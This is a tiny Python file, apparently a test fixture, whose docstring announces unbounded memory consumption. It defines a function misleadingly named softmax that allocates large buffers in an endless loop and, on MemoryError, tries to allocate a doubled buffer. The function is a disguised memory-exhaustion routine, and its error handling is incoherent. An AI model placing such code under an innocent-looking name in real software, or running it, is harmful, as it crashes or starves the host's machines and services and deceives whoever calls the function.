"""Take memory without end, and catch MemoryError."""


def softmax(Z):
    kept = []
    while True:
        try:
            kept.append(bytearray(2**24))
        except MemoryError:
            kept.append(kept[-1] * 2)
